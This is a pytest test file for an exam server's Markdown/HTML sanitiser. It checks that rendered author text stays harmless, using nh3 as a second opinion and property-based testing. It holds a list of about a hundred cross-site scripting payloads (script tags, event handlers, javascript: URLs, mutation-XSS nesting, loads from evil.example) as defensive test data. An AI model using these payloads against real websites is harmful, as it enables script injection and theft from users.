"""Rich text: what an author writes is harmless by the time it's HTML."""

from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from exam_server.core.problems import Refused
from exam_server.formats.richtext import LINK_RELATION, TAGS, Shown, check_richtext, clean, media_sources, render

DIGEST = "0123456789abcdef" * 4
MEDIA = f"media:{DIGEST}"

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/x>alert(1)</script >",
    "<<script>alert(1)//<</script>",
    "<script\x0b>alert(1)</script>".replace("\x0b", "\t"),
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'",
    '<img src="javascript:alert(1)">',
    "<img src=//evil.example/pixel.png>",
    "<img src=https://evil.example/pixel.png>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    f"<img src={MEDIA}.evil>",
    f"<img src={MEDIA} onload=alert(1) style=width:9999px>",
    f"<img src={MEDIA} width=100% height=-1>",
    f"<img src={MEDIA} width='8\n' height=999999 loading=eager>",
    f"<img src=/media/{DIGEST}/../../account>",
    "<img src=/logout>",
    f"<img src=//evil.example/{DIGEST}>",
    f"<img src=/a/../{DIGEST}>",
    "<img srcset='//evil.example/x 1x' src=x>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><!--</style><script>alert(1)</script>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p id=cookie class=overlay name=forms onclick=alert(1)>x</p>",
    "<p onmouseover=alert(1)>x</p>",
    "<p/onclick=alert(1)>x",
    "<td onmouseenter=alert(1)>x</td>",
    "<table background=//evil.example/x><tr><td>x</table>",
    "<table><td><form><input></table>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select onchange=alert(1)><option>x</select>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVa\tScript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;vascript&colon;alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='http://evil.example'>x</a>",
    "<a href='https://fine.example' target=_blank rel=opener ping=//evil.example>x</a>",
    '<a href=https://fine.example/"onclick=alert(1)>x</a>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y 'z'>]><p>&y;</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    '[x](https://fine.example/"onclick=alert(1))',
    '[x](https://fine.example "x\\" onclick=alert(1) y=\\"")',
    "<https://fine.example/<script>>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x" onerror="alert(1)](x.png)',
    f'![x"><script>alert(1)</script>]({MEDIA})',
    "[x]: javascript:alert(1)\n\n[x]",
    "```<script>alert(1)</script>\nx\n```",
    '```"><script>\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "> <script>alert(1)</script>",
    "1. <img src=x onerror=alert(1)>",
]


class Shape(HTMLParser):
    """Start tags with their attributes, in order."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, sorted(attrs, key=str)))


def assert_harmless(html: str, links: bool) -> None:
    allowed = {"img": {"src", "alt", "width", "height"}, "a": {"href", "rel"}, "th": {"scope"}, "ol": {"start"}}
    second = nh3.clean(
        html,
        tags=set(TAGS) | ({"a"} if links else set()),
        attributes=allowed,
        url_schemes={"https", "media"},
        link_rel=None,
    )
    assert Shape(second).tags == Shape(html).tags, html
    for tag, attributes in Shape(html).tags:
        for name, value in attributes:
            assert name != "src" or value in (MEDIA, f"/media/{DIGEST}"), html
            assert name not in ("width", "height") or str(value).isdigit(), html
            assert name != "href" or (links and tag == "a" and str(value).startswith("https://")), html


def test_the_corpus_is_large_enough() -> None:
    assert len(set(ATTACKS)) >= 60


@pytest.mark.parametrize("links", [False, True])
@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_survives_that_the_second_opinion_drops(attack: str, links: bool) -> None:
    for html in (render(attack, links=links), clean(attack, links=links)):
        assert_harmless(html, links)
        assert clean(html, links=links) == html


FRAGMENTS = st.sampled_from(
    [*ATTACKS, "<p>", "</p>", "<table>", "<td>", "`", "**", "> ", "\n", "\n\n", "|", "&lt;", "'", '"', "<"]
)


@settings(deadline=None)
@given(st.lists(FRAGMENTS, max_size=6).map("".join), st.booleans())
def test_pieces_of_attacks_put_together_stay_harmless(source: str, links: bool) -> None:
    html = render(source, links=links)
    assert_harmless(html, links)
    assert clean(html, links=links) == html


@settings(deadline=None)
@given(st.lists(FRAGMENTS, max_size=6).map("".join))
def test_cleaning_html_twice_changes_nothing(source: str) -> None:
    once = clean(source)
    assert_harmless(once, links=False)
    assert clean(once) == once


@settings(deadline=None)
@given(st.text(max_size=200))
def test_any_text_is_either_refused_with_a_reason_or_rendered(source: str) -> None:
    problems = check_richtext(source)
    try:
        render(source)
    except Refused:
        assert problems


def test_the_subset_of_markdown_is_rendered() -> None:
    assert render("# A\n\n*b* **c** `d`\n\n- e\n\n3. f\n\n|g|\n|:-:|\n|h|") == (
        "<h3>A</h3>\n<p><em>b</em> <strong>c</strong> <code>d</code></p>\n<ul>\n<li>e</li>\n</ul>\n"
        '<ol start="3">\n<li>f</li>\n</ol>\n<table>\n<thead>\n<tr>\n<th scope="col">g</th>\n</tr>\n</thead>\n'
        "<tbody>\n<tr>\n<td>h</td>\n</tr>\n</tbody>\n</table>"
    )


def test_html_in_markdown_is_shown_as_text_and_reported() -> None:
    assert render("a <b>c</b>") == "<p>a &lt;b&gt;c&lt;/b&gt;</p>"
    assert {problem.rule for problem in check_richtext("a <b>c</b>")} == {"richtext-html"}
    assert check_richtext("2 < 3 i „tak”") == ()


def test_a_link_keeps_only_its_words_for_candidates() -> None:
    assert render("[ustawa](https://isap.example/x)") == "<p>ustawa</p>"
    link = f'<p><a href="https://isap.example/x" rel="{LINK_RELATION}">ustawa</a></p>'
    assert render("[ustawa](https://isap.example/x)", links=True) == link


def test_a_picture_is_loaded_from_where_the_caller_says() -> None:
    served = {MEDIA: Shown(f"/media/{DIGEST}", 640, 480)}.get
    sized = f'<p><img src="/media/{DIGEST}" alt="Wykres" width="640" height="480"></p>'
    assert render(f"![Wykres]({MEDIA})", media=served) == sized
    assert render("![Wykres](media/inny.png)", media=served) == '<p><img alt="Wykres"></p>'
    assert render(f"![Wykres]({MEDIA})") == f'<p><img src="{MEDIA}" alt="Wykres"></p>'
    assert media_sources(f"a\n\n![a](x.png) i ![b]({MEDIA})") == (("x.png", 3), (MEDIA, 3))


def test_an_address_elsewhere_is_dropped_even_if_the_caller_gives_it() -> None:
    assert "evil" not in render("![x](a.png)", media=lambda _: Shown("https://evil.example/a.png"))


@pytest.mark.parametrize(
    ("markdown", "rule", "line"),
    [
        ("x" * 65537, "richtext-too-long", 1),
        ("<" * 2001, "richtext-too-many-angles", 1),
        ("&amp;" * 201, "richtext-too-many-entities", 1),
        (">" * 30 + "x", "richtext-too-deep", 1),
        ("a\nb \u202e c", "richtext-control-character", 2),
        ("a\x00b", "richtext-control-character", 1),
        ("a \ud800 b", "richtext-control-character", 1),
        ("a\n\n[b](http://c.example)", "richtext-link", 3),
        ("a\n\n![b](https://c.example/d.png)", "richtext-picture", 3),
        ("![b](../d.png)", "richtext-picture", 1),
        ("![b](d.png)", "richtext-picture", 1),
        ("![b](media/d.svg)", "richtext-picture", 1),
        ("![](media/d.png)", "richtext-picture-alt", 1),
    ],
    ids=lambda value: str(value)[:28].encode("ascii", "replace").decode(),
)
def test_what_an_author_has_to_correct_is_found_with_its_line(markdown: str, rule: str, line: int) -> None:
    assert [(problem.rule, problem.line) for problem in check_richtext(markdown)] == [(rule, line)]


@pytest.mark.parametrize("markdown", ["<" * 2001, "a\u202eb", ">" * 30 + "x"], ids=["angles", "bidi", "depth"])
def test_what_is_unfit_to_be_parsed_is_not_rendered(markdown: str) -> None:
    with pytest.raises(Refused):
        render(markdown)


def test_letters_are_composed() -> None:
    assert render("z\u0307o\u0301\u0142c\u0301") == "<p>żółć</p>"
